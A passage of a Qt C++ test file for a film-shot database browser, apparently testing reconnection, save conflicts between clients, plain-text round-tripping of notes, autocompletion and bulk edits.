    {
        QFETCH(bool, throughForm);
        const int id = addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}, {"takes", "3"}});
        Browser b = open(harbour);
        b.grid->setCurrentIndex(b.cell(0, "takes"));
        QVERIFY(settle());
        // The connection the window's database thread works on.
        qlonglong connection = 0;
        DbWorker::shared()->runAndWait(this, [&connection](DbSession &session) -> DbWorker::Continuation {
            QSqlQuery whoAmI(session.database());
            if (whoAmI.exec("SELECT CONNECTION_ID()") && whoAmI.next())
                connection = whoAmI.value(0).toLongLong();
            return {};
        });
        QVERIFY(connection > 0);
        QSqlQuery kill(other);
        QVERIFY2(kill.exec(QStringLiteral("KILL %1").arg(connection)), qPrintable(kill.lastError().text()));
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        QSignalSpy reconnects(b.model(), &ShotTableModel::reconnected);
        if (throughForm) {
            typeInto(b.field<QLineEdit>("sceneEdit"), "2");
            QVERIFY(b.info->saveChanges());
        } else {
            QVERIFY(b.model()->setData(b.cell(0, "scene"), "12"));
        }
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("12"));
        QCOMPARE(failures.size(), 0);
        QCOMPARE(reconnects.size(), 1);
        QCOMPARE(b.model()->data(b.cell(0, "scene")).toString(), QStringLiteral("12"));
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("12"));
        QCOMPARE(b.grid->currentIndex(), b.cell(0, "takes"));
        QVERIFY(b.model()->setData(b.cell(0, "takes"), "4"));
        QCOMPARE(stored(id, "takes").toString(), QStringLiteral("4"));
    }

    // Regression: every save re-read the table and the user lost their place.
    void theUsersPlaceSurvivesASave()
    {
        QSqlQuery bulk(other);
        QStringList rows;
        for (int i = 0; i < 400; ++i)
            rows << QStringLiteral("(%1, 'raw/A/%2.MTS', '%3', '%4')").arg(harbour).arg(i).arg(md5One, sha1One);
        QVERIFY(bulk.exec("INSERT INTO shots (project, filename, MD5, SHA1) VALUES " + rows.join(",")));
        Browser b = open(harbour);
        QSignalSpy resets(b.model(), &QAbstractItemModel::modelReset);
        const QModelIndex current = b.cell(250, "scene");
        b.grid->scrollTo(current, QAbstractItemView::PositionAtCenter);
        b.grid->setCurrentIndex(current);
        b.grid->selectionModel()->select(b.cell(252, "takes"), QItemSelectionModel::Select);
        const int scroll = b.grid->verticalScrollBar()->value();
        QVERIFY(scroll > 0);
        const QModelIndexList selected = b.grid->selectionModel()->selectedIndexes();

        QVERIFY(b.model()->setData(current, "edited"));
        typeInto(b.field<QLineEdit>("takesEdit"), "2");
        QVERIFY(b.info->saveChanges());
        QVERIFY(settle());

        QCOMPARE(resets.size(), 0);
        QCOMPARE(b.grid->currentIndex(), current);
        QCOMPARE(b.grid->selectionModel()->selectedIndexes(), selected);
        QCOMPARE(b.grid->verticalScrollBar()->value(), scroll);
        QCOMPARE(b.info->mapper->currentIndex(), 250);
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("edited"));
        QCOMPARE(b.field<QLineEdit>("takesEdit")->text(), QStringLiteral("2"));
    }

    void typingSurvivesAChangeOfTheSameRow()
    {
        const int id = addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        typeInto(b.field<QLineEdit>("sceneEdit"), "5");
        QVERIFY(b.model()->setData(b.cell(0, "takes"), "2"));
        QVERIFY(settle());
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("5"));
        QCOMPARE(b.field<QLineEdit>("takesEdit")->text(), QStringLiteral("2"));
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("5"));
        QCOMPARE(stored(id, "takes").toString(), QStringLiteral("2"));
    }

    void pendingFormEditsSurviveARereadAndTheFormKeepsItsRow()
    {
        addShot(harbour, "raw/A/1.MTS", {{"scene", "b"}});
        const int second = addShot(harbour, "raw/A/2.MTS", {{"scene", "a"}});
        Browser b = open(harbour);
        b.click(1, "takes");
        QVERIFY(settle());
        typeInto(b.field<QLineEdit>("takesEdit"), "6");
        b.grid->sortByColumn(b.model()->fieldIndex("scene"), Qt::AscendingOrder);
        QCOMPARE(stored(second, "takes").toString(), QStringLiteral("6"));
        QCOMPARE(b.model()->data(b.cell(0, "id")).toInt(), second);
        QCOMPARE(b.info->mapper->currentIndex(), 0);
        QCOMPARE(b.grid->currentIndex().row(), 0);
        QCOMPARE(b.field<QLineEdit>("takesEdit")->text(), QStringLiteral("6"));
    }

    // Regression: the free-text fields were written as an HTML document of
    // some 700 bytes, and stored angle brackets were read as markup and lost.
    void freeTextRoundTripsAsPlainText_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("plain word") << "Quay";
        QTest::newRow("angle brackets") << "Take 2 <better than take 1>";
        QTest::newRow("markup-like text") << "<p>not a paragraph</p> <b>bold?</b>";
        QTest::newRow("ampersands") << "Fish & Chips &amp; &lt;more&gt;";
        QTest::newRow("line breaks") << "line one\nline two\n\nline four";
        QTest::newRow("UTF-8") << QStringLiteral("Ōtautahi – Straße, 東京 ✓");
    }

    void freeTextRoundTripsAsPlainText()
    {
        QFETCH(QString, text);
        const int first = addShot(harbour, "raw/A/1.MTS");
        const int second = addShot(harbour, "raw/A/2.MTS", {{"notes", text}});
        Browser b = open(harbour);
        // Typed into the form: stored exactly as typed.
        auto *location = b.field<QTextEdit>("locationEdit");
        location->setFocus();
        location->textCursor().insertText(text);
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(first, "location").toString(), text);
        QCOMPARE(b.model()->data(b.cell(0, "location"), Qt::EditRole).toString(), text);
        // Written by another program: shown exactly, and saving another field
        // leaves it alone.
        b.click(1, "scene");
        QVERIFY(settle());
        QCOMPARE(b.field<QTextEdit>("notesEdit")->toPlainText(), text);
        QCOMPARE(b.model()->data(b.cell(1, "notes"), Qt::EditRole).toString(), text);
        // The grid shows its first line.
        QCOMPARE(b.model()->data(b.cell(1, "notes")).toString().remove(QChar(0x2026)), text.section('\n', 0, 0));
        typeInto(b.field<QLineEdit>("takesEdit"), "2");
        b.click(0, "scene");
        QCOMPARE(stored(second, "takes").toString(), QStringLiteral("2"));
        QCOMPARE(stored(second, "notes").toString(), text);
        QCOMPARE(location->toPlainText(), text);
        // The grid's own editor keeps every line of it.
        const QModelIndex notes = b.cell(1, "notes");
        b.grid->setCurrentIndex(notes);
        b.grid->edit(notes);
        auto *editor = qobject_cast<QPlainTextEdit *>(b.grid->indexWidget(notes));
        QVERIFY(editor);
        QCOMPARE(editor->toPlainText(), text);
        QTest::keyClick(editor, Qt::Key_Return, Qt::ShiftModifier);
        QTest::keyClicks(editor, "end");
        QTest::keyClick(editor, Qt::Key_Return);
        QTRY_VERIFY(!b.grid->indexWidget(notes));
        QCOMPARE(stored(second, "notes").toString(), text + "\nend");
    }

    void richTextDocumentsReadAsTheirText_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("one word") << "Quay";
        QTest::newRow("empty") << "";
        QTest::newRow("markup characters") << "a < b > c & d \"e\" 'f'";
        QTest::newRow("empty lines between") << "first\n\n\nfourth";
        QTest::newRow("trailing line break") << "line\n";
        QTest::newRow("spaces and tabs kept") << "  two  spaces\tand a tab";
        QTest::newRow("UTF-8 and a non-breaking space") << QStringLiteral("Straße\u00a0Ōtautahi 東京");
    }

    void richTextDocumentsReadAsTheirText()
    {
        QFETCH(QString, text);
        QTextEdit writer;
        writer.setPlainText(text);
        const QString document = writer.toHtml();
        QVERIFY(PlainText::isRichTextDocument(document));
        QCOMPARE(PlainText::fromStored(document), text);
        QCOMPARE(PlainText::fromStored(QVariant(document)).toString(), PlainText::fromStored(document));
        // The same text as plain text is never taken for markup.
        QVERIFY(!PlainText::isRichTextDocument(text));
        QCOMPARE(PlainText::fromStored(text), text);
    }

    void onlyTheToolkitsOwnHeaderMakesADocument_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("shown");
        const QString older = QStringLiteral(
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0//EN\" \"http://www.w3.org/TR/REC-html40/strict.dtd\">\n"
            "<html><head><meta name=\"qrichtext\" content=\"1\" /><style type=\"text/css\">\n"
            "p, li { white-space: pre-wrap; }\n</style></head><body style=\" font-family:'Sans'; "
            "font-size:10pt; font-weight:400; font-style:normal;\">\n<p style=\" margin-top:0px; "
            "margin-bottom:0px; margin-left:0px; margin-right:0px; -qt-block-indent:0; text-indent:0px;\">"
            "East <span style=\" font-weight:600;\">pier</span> &amp; quay</p>\n<p style=\"-qt-paragraph-type:empty; "
            "margin-top:0px; margin-bottom:0px; margin-left:0px; margin-right:0px; -qt-block-indent:0; "
            "text-indent:0px;\"><br /></p>\n<p style=\" margin-top:0px;\">dawn&#160;&#x263A;</p></body></html>");
        QTest::newRow("an earlier client's document") << older
                                                      << QStringLiteral("East pier & quay\n\ndawn\u00a0\u263a");
        QTest::newRow("plain HTML") << "<p>hello</p>" << "<p>hello</p>";
        QTest::newRow("doctype without the rich-text meta line")
            << "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0//EN\"><html><body><p>x</p></body></html>"
            << "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0//EN\"><html><body><p>x</p></body></html>";
        QTest::newRow("header quoted inside a note")
            << "see <!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0//EN\"> <meta name=\"qrichtext\">"
            << "see <!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.0//EN\"> <meta name=\"qrichtext\">";
    }

    void onlyTheToolkitsOwnHeaderMakesADocument()
    {
        QFETCH(QString, value);
        QFETCH(QString, shown);
        QCOMPARE(PlainText::fromStored(value), shown);
    }

    void anOldRichTextDocumentShowsAsTextAndIsLeftAloneUntilEdited()
    {
        QTextEdit writer; // as an earlier client stored its fields
        writer.setPlainText(QStringLiteral("Quay <north> & pier\nsecond line"));
        const QString document = writer.toHtml();
        QVERIFY(PlainText::isRichTextDocument(document));
        QVERIFY(!PlainText::isRichTextDocument("<!DOCTYPE HTML> but no rich text"));
        const int id = addShot(harbour, "raw/A/1.MTS", {{"location", document}, {"notes", document}});
        Browser b = open(harbour);
        const QString text = QStringLiteral("Quay <north> & pier\nsecond line");
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), text);
        QCOMPARE(b.model()->data(b.cell(0, "location"), Qt::EditRole).toString(), text);
        // The grid shows the first line, the whole text in the tooltip.
        QCOMPARE(b.model()->data(b.cell(0, "notes"), Qt::DisplayRole).toString(),
                 QStringLiteral("Quay <north> & pier\u2026"));
        QCOMPARE(b.model()->data(b.cell(0, "notes"), Qt::ToolTipRole).toString(), text);
        // Another field saved: both documents keep their bytes.
        typeInto(b.field<QLineEdit>("sceneEdit"), "3");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "location").toString(), document);
        QCOMPARE(stored(id, "notes").toString(), document);
        // Edited: written back as plain text, over the old bytes.
        typeInto(b.field<QTextEdit>("locationEdit"), "!");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "location").toString(), text + "!");
        QCOMPARE(stored(id, "notes").toString(), document);
    }

    void tabInAFreeTextFieldMovesToTheNextField()
    {
        addShot(harbour, "raw/A/1.MTS", {{"location", "Quay"}});
        Browser b = open(harbour);
        auto *location = b.field<QTextEdit>("locationEdit");
        location->setFocus();
        QTRY_VERIFY(location->hasFocus());
        QTest::keyClick(location, Qt::Key_Tab);
        QTRY_VERIFY(b.field<QLineEdit>("sceneEdit")->hasFocus());
        QCOMPARE(location->toPlainText(), QStringLiteral("Quay"));
        QVERIFY(!b.info->hasUnsavedChanges());
    }

    // Regression: in the multi-line Location, Down then Return with no
    // list open typed a line break, and a bulk edit wrote "ligh\n" into
    // every selected shot. Down opens the list where values fit; Return
    // with the list closed saves and stays; Shift+Return is the line break.
    void returnInAFieldThatOffersValuesNeverTypesALineBreak_data()
    {
        QTest::addColumn<QString>("typed");
        QTest::addColumn<bool>("bulk");
        QTest::addColumn<QString>("saved");
        QTest::newRow("a value fits: Down opens the list, Return picks it") << "ligh" << false << "Lighthouse";
        QTest::newRow("no value fits: Return saves what is typed") << "lighx" << false << "lighx";
        QTest::newRow("a bulk edit of three shots") << "lighx" << true << "lighx";
    }

    void returnInAFieldThatOffersValuesNeverTypesALineBreak()
    {
        QFETCH(QString, typed);
        QFETCH(bool, bulk);
        QFETCH(QString, saved);
        const int a = addShot(harbour, "raw/A/1.MTS");
        const int b2 = addShot(harbour, "raw/A/2.MTS");
        const int c = addShot(harbour, "raw/A/3.MTS");
        addShot(harbour, "raw/A/4.MTS", {{"location", "Lighthouse"}});
        Browser b = open(harbour);
        b.model()->readCompletions();
        QVERIFY(settle());
        if (bulk)
            b.grid->selectionModel()->select(QItemSelection(b.cell(0, "id"), b.model()->index(2, b.model()->columnCount() - 1)),
                                             QItemSelectionModel::ClearAndSelect);
        QCOMPARE(b.info->bulkSelection().size(), bulk ? 3 : 0);
        auto *location = b.field<QTextEdit>("locationEdit");
        location->setFocus();
        QTRY_VERIFY(location->hasFocus());
        QTest::keyClicks(location, typed);
        // The list closed (Escape, or it never opened), then Down and Return
        // where the keys go.
        auto keyTo = [location](Qt::Key key, Qt::KeyboardModifiers modifiers = {}) {
            QWidget *popup = QApplication::activePopupWidget();
            QTest::keyClick(popup ? popup : static_cast<QWidget *>(location), key, modifiers);
        };
        if (QApplication::activePopupWidget())
            keyTo(Qt::Key_Escape);
        QTRY_VERIFY(!QApplication::activePopupWidget());
        keyTo(Qt::Key_Down);
        QCOMPARE(QApplication::activePopupWidget() != nullptr, saved != typed);
        keyTo(Qt::Key_Return);
        QCOMPARE(location->toPlainText(), saved);
        // Return again, the list closed (a value picked is saved so).
        QVERIFY(!QApplication::activePopupWidget());
        keyTo(Qt::Key_Return);
        QCOMPARE(location->toPlainText(), saved);
        QVERIFY(settle());
        for (int id : bulk ? QList<int>{a, b2, c} : QList<int>{a})
            QCOMPARE(stored(id, "location").toString(), saved);
        // Saved and still there, on the same shot.
        QVERIFY(location->hasFocus());
        QCOMPARE(b.info->currentShot(), qlonglong(a));
        QVERIFY(!b.info->hasUnsavedChanges());
        // The line break is Shift+Return.
        keyTo(Qt::Key_Return, Qt::ShiftModifier);
        QTest::keyClicks(location, "east");
        QCOMPARE(location->toPlainText(), saved + "\neast");
    }

    // Regression: values saved in this session were offered only after F5.
    // A save's values join the candidates at once, as do another client's
    // read back with the shot moved to; the server is not asked again.
    void aValueSavedIsOfferedAtOnce()
    {
        addShot(harbour, "raw/A/1.MTS", {{"location", "Quay"}});
        const int second = addShot(harbour, "raw/A/2.MTS");
        const int third = addShot(harbour, "raw/A/3.MTS");
        Browser b = open(harbour);
        b.model()->readCompletions();
        QVERIFY(settle());
        QCompleter *locations = b.field<QTextEdit>("locationEdit")->findChild<QCompleter *>();
        QVERIFY(locations);
        QCOMPARE(b.model()->completions("location"), QStringList{"Quay"});

        // This window's save: Return in the field saves it.
        auto *location = b.field<QTextEdit>("locationEdit");
        location->setFocus();
        QTRY_VERIFY(location->hasFocus());
        location->selectAll();
        QTest::keyClicks(location, "Lighthouse steps");
        if (QApplication::activePopupWidget())
            QTest::keyClick(QApplication::activePopupWidget(), Qt::Key_Escape);
        QTest::keyClick(location, Qt::Key_Return);
        QVERIFY(settle());
        QCOMPARE(b.model()->completions("location"), (QStringList{"Lighthouse steps", "Quay"}));

        // Another client's value, read with the shot the form moves to.
        setStored(third, "scene", "S9");
        b.click(2, "scene");
        QVERIFY(settle());
        QCOMPARE(b.model()->completions("scene"), QStringList{"S9"});

        // Offered on the next shot as the user types.
        b.click(1, "scene");
        QVERIFY(settle());
        QCOMPARE(b.info->currentShot(), qlonglong(second));
        location->setFocus();
        QTRY_VERIFY(location->hasFocus());
        QTest::keyClicks(location, "steps");
        QTRY_VERIFY(locations->popup()->isVisible());
        QCOMPARE(locations->currentCompletion(), QStringLiteral("Lighthouse steps"));
        QTest::keyClick(locations->popup(), Qt::Key_Return);
        QCOMPARE(location->toPlainText(), QStringLiteral("Lighthouse steps"));
        // The one-line scene field offers the other client's value on Down.
        auto *scene = b.field<QLineEdit>("sceneEdit");
        scene->setFocus();
        QTRY_VERIFY(scene->hasFocus());
        QTest::keyClick(scene, Qt::Key_Down);
        QTRY_VERIFY(scene->completer()->popup()->isVisible());
        QCOMPARE(scene->completer()->currentCompletion(), QStringLiteral("S9"));
    }

    // Regression: the second client's save silently replaced the first's.
    void sameFieldEditedByTwoClientsIsPutToTheUser_data()
    {
        QTest::addColumn<bool>("throughForm");
        QTest::addColumn<bool>("writeMine");
        QTest::newRow("form, keep the stored value") << true << false;
        QTest::newRow("form, write mine") << true << true;
        QTest::newRow("cell, keep the stored value") << false << false;
        QTest::newRow("cell, write mine") << false << true;
    }

    void sameFieldEditedByTwoClientsIsPutToTheUser()
    {
        QFETCH(bool, throughForm);
        QFETCH(bool, writeMine);
        const int id = addShot(harbour, "raw/A/5.MTS");
        Browser b = open(harbour);
        setStored(id, "location", "LocA"); // client A, after B read the row
        if (throughForm) {
            typeInto(b.field<QTextEdit>("locationEdit"), "LocB");
            QVERIFY(b.info->saveChanges());
        } else {
            QVERIFY(b.model()->setData(b.cell(0, "location"), "LocB"));
        }
        QCOMPARE(stored(id, "location").toString(), QStringLiteral("LocA"));
        QCOMPARE(b.model()->data(b.cell(0, "location")).toString(), QStringLiteral("LocA"));
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), QStringLiteral("LocA"));
        QCOMPARE(conflicts().size(), 1);
        NoticeBar *bar = b.info->conflictBar();
        QVERIFY(bar->isVisible());
        QVERIFY2(bar->text().contains("Location") && bar->text().contains("LocA")
                     && bar->text().contains("LocB"),
                 qPrintable(bar->text()));
        QVERIFY(QFileInfo::exists(saveScreenshot(b.window, "conflict")));

        (writeMine ? bar->secondButton() : bar->firstButton())->click();
        const QString kept = writeMine ? "LocB" : "LocA";
        QCOMPARE(stored(id, "location").toString(), kept);
        QCOMPARE(b.model()->data(b.cell(0, "location")).toString(), kept);
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), kept);
        QVERIFY(conflicts().isEmpty());
        QVERIFY(!bar->isVisible());
        // Only a value written is recorded: the one written over theirs.
        const QStringList history = historyOf(id);
        QCOMPARE(history.size(), writeMine ? 1 : 0);
    }

    void writeMineOverAValueChangedAgainIsANewConflict()
    {
        const int id = addShot(harbour, "raw/A/5.MTS");
        Browser b = open(harbour);
        setStored(id, "scene", "A1");
        QVERIFY(b.model()->setData(b.cell(0, "scene"), "B"));
        QVERIFY(settle());
        setStored(id, "scene", "A2");
        b.info->conflictBar()->secondButton()->click();
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("A2"));
        QCOMPARE(conflicts().size(), 1);
        QCOMPARE(conflicts().first().stored.toString(), QStringLiteral("A2"));
        QVERIFY(settle());
        b.info->conflictBar()->secondButton()->click();
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("B"));
    }

    void editsOfDifferentFieldsOfOneRowAreBothKept()
    {
        const int id = addShot(harbour, "raw/A/5.MTS", {{"scene", "1"}});
        Browser b = open(harbour);
        setStored(id, "takes", "7"); // the other client, unseen here
        typeInto(b.field<QLineEdit>("sceneEdit"), "2");
        typeInto(b.field<QTextEdit>("notesEdit"), "mine");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("12"));
        QCOMPARE(stored(id, "notes").toString(), QStringLiteral("mine"));
        QCOMPARE(stored(id, "takes").toString(), QStringLiteral("7"));
        QVERIFY(conflicts().isEmpty());
        // One field in conflict does not hold back the other.
        setStored(id, "notes", "theirs");
        typeInto(b.field<QLineEdit>("sceneEdit"), "3");
        typeInto(b.field<QTextEdit>("notesEdit"), " again");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("123"));
        QCOMPARE(stored(id, "notes").toString(), QStringLiteral("theirs"));
        QCOMPARE(conflicts().size(), 1);
        QCOMPARE(conflicts().first().typed.toString(), QStringLiteral("mine again"));
        // Writing the value already stored is no conflict.
        setStored(id, "takes", "8");
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        QVERIFY(b.model()->setData(b.cell(0, "takes"), "8"));
        QVERIFY(settle());
        QCOMPARE(failures.size(), 0);
        QCOMPARE(conflicts().size(), 1); // only the notes one
    }

    // Regression: nothing re-read the rows, so users edited stale values.
    void refreshKeepsThePlaceAndWhatIsBeingTyped()
    {
        QSqlQuery bulk(other);
        QStringList rows;
        for (int i = 0; i < 400; ++i)
            rows << QStringLiteral("(%1, 'raw/A/%2.MTS', '%3', '%4')").arg(harbour).arg(i).arg(md5One, sha1One);
        QVERIFY(bulk.exec("INSERT INTO shots (project, filename, MD5, SHA1) VALUES " + rows.join(",")));
        Browser b = open(harbour);
        const QModelIndex current = b.cell(250, "scene");
        b.grid->scrollTo(current, QAbstractItemView::PositionAtCenter);
        b.grid->setCurrentIndex(current);
        b.grid->selectionModel()->select(QItemSelection(b.cell(252, "takes"), b.cell(255, "shot")),
                                         QItemSelectionModel::Select);
        const int scroll = b.grid->verticalScrollBar()->value();
        QVERIFY(scroll > 0);
        const QModelIndexList selected = b.grid->selectionModel()->selectedIndexes();
        const int id = b.model()->idOfRow(250).toInt();
        setStored(id, "shot", "theirs");
        setStored(id + 3, "takes", "9");
        // Typed, and refused by the database, so it stays pending.
        narrowColumn("duration", 3);
        typeInto(b.field<QLineEdit>("durationEdit"), QString(7, '5'));
        QVERIFY(b.info->saveChanges());
        QVERIFY(settle());
        typeInto(b.field<QLineEdit>("relatedEdit"), "R7");

        QSignalSpy resets(b.model(), &QAbstractItemModel::modelReset);
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(resets.size(), 1);
        QCOMPARE(b.grid->currentIndex(), current);
        QCOMPARE(b.grid->selectionModel()->selectedIndexes().size(), selected.size());
        for (const QModelIndex &index : selected)
            QVERIFY(b.grid->selectionModel()->isSelected(index));
        QCOMPARE(b.grid->verticalScrollBar()->value(), scroll);
        QCOMPARE(b.info->mapper->currentIndex(), 250);
        QCOMPARE(b.model()->data(b.cell(253, "takes")).toString(), QStringLiteral("9"));
        QCOMPARE(b.field<QLineEdit>("shotEdit")->text(), QStringLiteral("theirs"));
        // Refresh saved what the database takes first and kept the rest.
        QCOMPARE(stored(id, "related").toString(), QStringLiteral("R7"));
        auto *duration = b.field<QLineEdit>("durationEdit");
        QCOMPARE(duration->text(), QString(7, '5'));
        QVERIFY(duration->property("unsaved").toBool());
        QCOMPARE(b.info->unsavedFields(), QStringList{"Duration (s)"});
        duration->setText("55");
        emit duration->textEdited(duration->text());
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "duration").toString(), QStringLiteral("55"));
        QCOMPARE(stored(id, "shot").toString(), QStringLiteral("theirs"));
    }

    void theRowMovedToIsReadAgainBeforeTheFormShowsIt()
    {
        addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}});
        const int second = addShot(harbour, "raw/A/2.MTS", {{"scene", "2"}});
        Browser b = open(harbour);
        setStored(second, "scene", "22");
        setStored(second, "location", "moved");
        b.grid->setFocus();
        QTest::keyClick(b.grid, Qt::Key_Down);
        QCOMPARE(b.info->mapper->currentIndex(), 1);
        QTRY_COMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("22"));
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), QStringLiteral("moved"));
        QCOMPARE(b.model()->data(b.cell(1, "scene")).toString(), QStringLiteral("22"));
        // An edit now starts from what is stored: no conflict.
        typeInto(b.field<QTextEdit>("locationEdit"), " on");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(second, "location").toString(), QStringLiteral("moved on"));
    }

    // Regression: with auto-scroll off, the grid did not follow the keys and
    // the current cell, where typing goes, was out of sight.
    void keyboardMovesKeepTheCurrentCellInView_data()
    {
        QTest::addColumn<QList<int>>("keys");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<int>("row");
        QTest::newRow("Down 20 times") << QList<int>(20, Qt::Key_Down) << int(Qt::NoModifier) << 20;
        QTest::newRow("Page Down twice") << QList<int>(2, Qt::Key_PageDown) << int(Qt::NoModifier) << -1;
        QTest::newRow("Ctrl+End") << QList<int>{Qt::Key_End} << int(Qt::ControlModifier) << 119;
    }

    void keyboardMovesKeepTheCurrentCellInView()
    {
        QFETCH(QList<int>, keys);
        QFETCH(int, modifiers);
        QFETCH(int, row);
        QSqlQuery bulk(other);
        QStringList rows;
        for (int i = 0; i < 120; ++i)
            rows << QStringLiteral("(%1, 'raw/A/%2.MTS', '%3', '%4')").arg(harbour).arg(i).arg(md5One, sha1One);
        QVERIFY(bulk.exec("INSERT INTO shots (project, filename, MD5, SHA1) VALUES " + rows.join(",")));
        Browser b = open(harbour);
        QVERIFY(!b.grid->hasAutoScroll()); // dragging near an edge still does not scroll
        b.grid->setCurrentIndex(b.cell(0, "scene"));
        b.grid->setFocus();
        const int lastInSight = b.grid->rowAt(b.grid->viewport()->height() - 1);
        QVERIFY(lastInSight > 0 && lastInSight < 19);
        for (int key : keys)
            QTest::keyClick(b.grid, Qt::Key(key), Qt::KeyboardModifiers(modifiers));
        const QModelIndex current = b.grid->currentIndex();
        if (row >= 0)
            QCOMPARE(current.row(), row);
        QVERIFY2(current.row() > lastInSight, qPrintable(QString::number(current.row())));
        QCOMPARE(b.info->mapper->currentIndex(), current.row());
        QVERIFY2(b.grid->viewport()->rect().contains(b.grid->visualRect(current)),
                 "the current cell is out of sight");
        // Typing goes into the cell the user sees.
        QTest::keyClick(b.grid, Qt::Key_7);
        QVERIFY(b.grid->indexWidget(current));
    }

    // Regression: a bulk save dropped what it could not write (the field
    // emptied, no mark, no Try Again, closing asked nothing).
    void aBulkSaveKeepsWhatItCouldNotWrite()
    {
        QList<int> ids;
        for (int i = 0; i < 5; ++i)
            ids << addShot(harbour, QStringLiteral("raw/A/%1.MTS").arg(i));
        Browser b = open(harbour);
        narrowColumn("duration", 3);
        b.grid->selectAll();
        QCOMPARE(b.info->bulkSelection().size(), 5);
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        auto *duration = b.field<QLineEdit>("durationEdit");
        duration->setFocus();
        QTest::keyClicks(duration, "12345");
        QTest::keyClick(duration, Qt::Key_Return);
        QVERIFY(settle());
        QCOMPARE(failures.size(), 1);
        const QString message = failures.first().first().toString();
        QVERIFY2(message.startsWith("Duration (s) saved on 0 of 5 shots"), qPrintable(message));
        for (int id : ids)
            QVERIFY(stored(id, "duration").isNull());
        // Kept, marked, with Try Again and Discard, for each shot.
        QCOMPARE(duration->text(), QStringLiteral("12345"));
        QVERIFY(duration->property("unsaved").toBool());
        QVERIFY(b.info->unsavedBar()->isVisible());
        QVERIFY2(b.info->unsavedBar()->text().contains("5 shots"), qPrintable(b.info->unsavedBar()->text()));
        QCOMPARE(b.model()->edits()->unsaved().size(), 5);
        QVERIFY(b.info->hasUnsavedChanges());
        // Try Again, once the server takes it, saves it on those shots.
        QSqlQuery widen(other);
        QVERIFY(widen.exec("ALTER TABLE shots MODIFY duration VARCHAR(64) NULL"));
        narrowed.removeAll("duration");
        b.info->unsavedBar()->firstButton()->click();
        QVERIFY(settle());
        for (int id : ids)
            QCOMPARE(stored(id, "duration").toString(), QStringLiteral("12345"));
        QVERIFY(!b.info->hasUnsavedChanges());
        QVERIFY(!b.info->unsavedBar()->isVisible());
    }

    // Regression: a find that hid the shot threw its unsaved value away,
    // while the status line said it was kept.
    void aFindKeepsAValueNotSaved()
    {
        addShot(harbour, "raw/A/1.MTS", {{"notes", "gulls"}});
        const int five = addShot(harbour, "raw/A/5.MTS", {{"notes", "pier"}});
        Browser b = open(harbour);
        narrowColumn("duration", 3);
        b.click(1, "scene");
        QVERIFY(settle());
        auto *duration = b.field<QLineEdit>("durationEdit");
        typeInto(duration, "70000");
        QVERIFY(b.info->saveChanges());
        QVERIFY(settle());
        QVERIFY(b.info->unsavedBar()->isVisible());
        b.grid->setFind("gulls", false);
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 1);
        QVERIFY(b.info->unsavedBar()->isVisible());
        QVERIFY2(b.info->unsavedBar()->text().contains(QStringLiteral("shot %1").arg(five)),
                 qPrintable(b.info->unsavedBar()->text()));
        b.grid->setFind(QString(), false);
        QVERIFY(settle());
        b.click(b.model()->rowOfId(five), "scene");
        QVERIFY(settle());
        QCOMPARE(duration->text(), QStringLiteral("70000"));
        QVERIFY(duration->property("unsaved").toBool());
    }

    // A note of nearly 64 KiB is shown, edited and saved whole; the grid shows its
    // first line.
    void aLongNoteRoundTrips()
    {
        QString note;
        // As much as the column holds (64 KiB less a little for the typing).
        while (note.size() < 65000)
            note += QStringLiteral("Gulls over the east pier at dawn, take %1.\n").arg(note.size());
        note.truncate(65000);
        const int id = addShot(harbour, "raw/A/1.MTS", {{"notes", note}});
        Browser b = open(harbour);
        auto *notes = b.field<QTextEdit>("notesEdit");
        QCOMPARE(notes->toPlainText(), note);
        const QString shown = b.model()->data(b.cell(0, "notes")).toString();
        QVERIFY(shown.size() < 300 && !shown.contains('\n'));
        typeInto(notes, "end");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "notes").toString(), note + "end");
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(notes->toPlainText(), note + "end");
    }

    // Regression: a bulk edit grew faster than its rows (6,000 shots took
    // almost a minute); it is saved in chunks and reported.
    void aBulkEditOfSixThousandShotsIsSavedAndReported()
    {
        QSqlQuery bulk(other);
        QStringList rows;
        for (int i = 0; i < 6000; ++i)
